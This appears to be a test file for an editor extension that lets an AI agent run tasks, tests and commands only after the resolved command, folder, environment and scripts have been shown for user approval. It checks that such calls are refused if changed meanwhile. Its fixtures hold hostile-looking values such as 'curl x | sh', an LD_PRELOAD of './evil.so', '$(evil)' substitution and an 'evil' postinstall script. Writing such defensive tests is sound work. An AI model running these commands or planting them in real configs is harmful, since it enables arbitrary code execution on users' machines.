// What the user is asked about is what runs: a call holds the resolved task, command, folder, environment and scripts,
// and is refused if these are different when it runs.

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, beforeEach, test } from 'node:test';
import { english } from '../src/text';
import { TokenSource, Uri, install } from './fakeVscode';

const fake = install();
const { Guard } = require('../src/copilot/guard') as typeof import('../src/copilot/guard');
const { Files } = require('../src/tools/files') as typeof import('../src/tools/files');
const { OwnTools } = require('../src/tools/own') as typeof import('../src/tools/own');

const quiet = { info: () => undefined, warn: () => undefined, error: () => undefined, debug: () => undefined };
const posix = { skip: process.platform === 'win32' };
const root = realpathSync(mkdtempSync(join(tmpdir(), 'agentvoice-tasks-')));
after(() => rmSync(root, { recursive: true, force: true }));

let tools: InstanceType<typeof OwnTools>;
let calls = 0;

/** A task as the editor describes it, and its entry in tasks.json. */
function add(name: string, execution: object | undefined, entry: object = {}, more: object = {}): object {
  const task = { name, source: 'Workspace', definition: { type: 'shell' }, ...(execution === undefined ? {} : { execution }), ...more };
  fake.tasks.push(task);
  (fake.settings.get('tasks.tasks') as object[]).push({ label: name, type: 'shell', ...entry });
  return task;
}

beforeEach(() => {
  fake.settings.clear();
  fake.settings.set('tasks.tasks', []);
  fake.ofWorkspace.clear();
  fake.files.clear();
  fake.tasks = [];
  fake.ran.length = 0;
  fake.terminals.length = 0;
  fake.folders = [Uri.file(root)];
  tools = new OwnTools(new Files(new Guard('/home/me/.config/Code/User', () => undefined)), quiet, english);
});

/** Calls a tool, lets something happen while the user is asked, and runs it. */
async function call(name: string, input: object, meanwhile: () => void = () => undefined): Promise<{ asked: Record<string, unknown>; content: string }> {
  const callId = `call-${++calls}`;
  const { input: asked } = await tools.prepare(callId, name, input);
  meanwhile();
  const { content } = await tools.invoke({ callId, name, input: JSON.parse(JSON.stringify(asked)) as unknown }, new TokenSource().token);
  return { asked: asked as Record<string, unknown>, content };
}

test('a task is asked about with its command, arguments, folder and environment', posix, async () => {
  mkdirSync(join(root, 'sub'), { recursive: true });
  add('check', { commandLine: 'make check' });
  assert.deepEqual((await call('editor_run_task', { task: 'check' })).asked, { task: 'check', command: 'make check', folder: root });
  add('build', { process: '${workspaceFolder}/tool', args: ['${workspaceFolder}/a', 'b'], options: { cwd: '${workspaceFolder}/sub', env: { NODE_ENV: 'test' } } });
  assert.deepEqual((await call('editor_run_task', { task: 'build' })).asked,
    { task: 'build', command: join(root, 'tool'), args: [join(root, 'a'), 'b'], folder: join(root, 'sub'), environment: { NODE_ENV: 'test' } });
  add('quoted', { command: { value: 'go', quoting: 2 }, args: [{ value: 'vet', quoting: 1 }, './...'] });
  const { asked, content } = await call('editor_run_task', { task: 'quoted' });
  assert.deepEqual(asked, { task: 'quoted', command: 'go', args: ['vet', './...'], folder: root });
  assert.match(content, /^The task quoted ended with exit code 0/);
  assert.equal(fake.ran.length, 3);
});

test('what a question about a task cannot tell needs a click', posix, async () => {
  symlinkSync('/', join(root, 'away'));
  for (const [name, execution, entry] of [
    ['custom', { callback: () => undefined }, {}],
    ['nothing', undefined, {}],
    ['variable', { commandLine: 'run ${command:evil}' }, {}],
    ['file', { commandLine: 'run ${file}' }, {}],
    ['environment', { commandLine: 'make', options: { env: { LD_PRELOAD: './evil.so' } } }, {}],
    ['odd value', { commandLine: 'make', options: { env: { CI: '$(evil)' } } }, {}],
    ['shell', { commandLine: 'make', options: { executable: './evil' } }, {}],
    ['shell arguments', { commandLine: 'make', options: { shellArgs: ['-c', 'evil;'] } }, {}],
    ['outside', { commandLine: 'make', options: { cwd: '/tmp' } }, {}],
    ['behind a link', { commandLine: 'make', options: { cwd: '${workspaceFolder}/away/tmp' } }, {}],
    ['gone', { commandLine: 'make', options: { cwd: 'missing' } }, {}],
    ['after another', { commandLine: 'make' }, { dependsOn: 'unknown' }],
    ['after an extension', { commandLine: 'make' }, { dependsOn: { type: 'npm', script: 'x' } }],
  ] as const) {
    add(name, execution, entry);
    assert.equal(((await tools.prepare(`call-${++calls}`, 'editor_run_task', { task: name })).input as { click?: true }).click, true, name);
  }
  fake.tasks.push({ name: 'without an entry', source: 'Workspace', definition: { type: 'shell' }, execution: { commandLine: 'make' } });
  assert.equal(((await tools.prepare('entry', 'editor_run_task', { task: 'without an entry' })).input as { click?: true }).click, true);
  add('plain', { commandLine: 'make' });
  for (const setting of ['env', 'automationProfile', 'defaultProfile']) {
    const name = `terminal.integrated.${setting}.${process.platform === 'darwin' ? 'osx' : 'linux'}`;
    fake.ofWorkspace.set(name, setting === 'env' ? { PATH: './bin' } : { path: './evil' });
    assert.equal(((await tools.prepare(`set-${setting}`, 'editor_run_task', { task: 'plain' })).input as { click?: true }).click, true, setting);
    fake.ofWorkspace.delete(name);
  }
  assert.equal(((await tools.prepare('plain', 'editor_run_task', { task: 'plain' })).input as { click?: true }).click, undefined);
});

test('the tasks that run first are part of the call, to any depth', posix, async () => {
  add('clean', { commandLine: 'rm -r build' });
  add('compile', { commandLine: 'make' }, { dependsOn: ['clean'] });
  add('all', { commandLine: 'make check' }, { dependsOn: 'compile' });
  const { asked } = await call('editor_run_task', { task: 'all' });
  assert.deepEqual(asked, {
    task: 'all', command: 'make check', folder: root,
    first: [{ task: 'compile', command: 'make', folder: root, first: [{ task: 'clean', command: 'rm -r build', folder: root }] }],
  });
  fake.ofWorkspace.set('tasks.tasks', fake.settings.get('tasks.tasks')); // as the editor tells it, for the folder and for the workspace
  assert.deepEqual((await tools.prepare('all', 'editor_run_task', { task: 'all' })).input, asked);
  add('endless', { commandLine: 'make' }, { dependsOn: 'endless' });
  assert.equal(((await tools.prepare('endless', 'editor_run_task', { task: 'endless' })).input as { click?: true }).click, true);
});

test('a call that does something else by then is refused, and says that it is asked again', posix, async () => {
  const changed = /changed while the user was asked/;
  const task = add('check', { commandLine: 'make check' }) as { execution: { commandLine: string } };
  const swap = (): void => void (task.execution = { commandLine: 'curl x | sh' });
  assert.match((await call('editor_run_task', { task: 'check' }, swap)).content, changed);
  task.execution = { commandLine: 'make check' };
  const entries = fake.settings.get('tasks.tasks') as { label?: string; dependsOn?: string }[];
  add('evil', { commandLine: 'evil' });
  assert.match((await call('editor_run_task', { task: 'check' }, () => entries.forEach((e) => Object.assign(e, e.label === 'check' ? { dependsOn: 'evil' } : {})))).content, changed);
  fake.tasks = [];
  fake.files.set(join(root, 'package.json'), '{"scripts":{"pretest":"a","test":"b","posttest":"c","other":"d"}}');
  const script = (text: string) => (): void => void fake.files.set(join(root, 'package.json'), text);
  const { asked, content } = await call('editor_run_tests', {}, script('{"scripts":{"test":"curl x | sh"}}'));
  assert.deepEqual(asked, { command: 'npm test', folder: root, scripts: { pretest: 'a', test: 'b', posttest: 'c' } });
  assert.match(content, changed);
  assert.match((await call('editor_run_command', { command: 'npm run other && npm test' }, script('{"scripts":{"other":"evil","test":"curl x | sh"}}'))).content, changed);
  assert.match((await call('editor_run_tests', {}, () => void (fake.tasks = [{ name: 'tests', source: 'Workspace', group: { id: 'test' }, execution: { commandLine: 'evil' } }]))).content, changed);
  assert.match((await tools.invoke({ callId: 'raw', name: 'editor_run_tests', input: {} }, new TokenSource().token)).content, changed);
  assert.match((await tools.invoke({ callId: 'raw', name: 'editor_run_task', input: { task: 'tests' } }, new TokenSource().token)).content, changed);
  fake.folders = [Uri.file(join(root, 'sub'))];
  assert.match((await tools.invoke({ callId: 'raw', name: 'editor_run_command', input: { command: 'echo', folder: root } }, new TokenSource().token)).content, changed);
  assert.deepEqual([fake.ran.length, fake.terminals.length], [0, 0]);
});

test('the scripts that a command runs are part of the call', posix, async () => {
  fake.files.set(join(root, 'package.json'), '{"scripts":{"test":"t","build":"b","prebuild":"p","x:y":"z"}}');
  for (const [command, scripts] of [
    ['npm test', { test: 't' }], ['npm t', { test: 't' }], ['npm run build', { prebuild: 'p', build: 'b' }], ['npm --silent run x:y', { 'x:y': 'z' }], ['yarn build', { prebuild: 'p', build: 'b' }],
    ['pnpm run build && npm test', { prebuild: 'p', build: 'b', test: 't' }], ['npm install', undefined], ['npm run missing', undefined], ['go test ./...', undefined],
  ] as const) {
    assert.deepEqual((await tools.prepare(`call-${++calls}`, 'editor_run_command', { command })).input, { command, folder: root, ...(scripts === undefined ? {} : { scripts }) }, command);
  }
  fake.files.set(join(root, 'package.json'), '{"scripts":{"postinstall":"evil","prepare":"p"}}');
  for (const command of ['npm install', 'npm ci', 'yarn', 'yarn add x', 'pnpm i']) {
    assert.deepEqual((await tools.prepare(`call-${++calls}`, 'editor_run_command', { command })).input, { command, folder: root, scripts: { postinstall: 'evil', prepare: 'p' } }, command);
  }
  fake.files.set(join(root, 'package.json'), 'no json');
  assert.deepEqual((await tools.prepare('broken', 'editor_run_command', { command: 'npm test' })).input, { command: 'npm test', folder: root, click: true });
});

test('two tasks of one name are not guessed between', async () => {
  add('same', { commandLine: 'a' });
  add('same', { commandLine: 'b' });
  assert.match((await call('editor_run_task', { task: 'same' })).content, /There are 2 tasks same/);
});
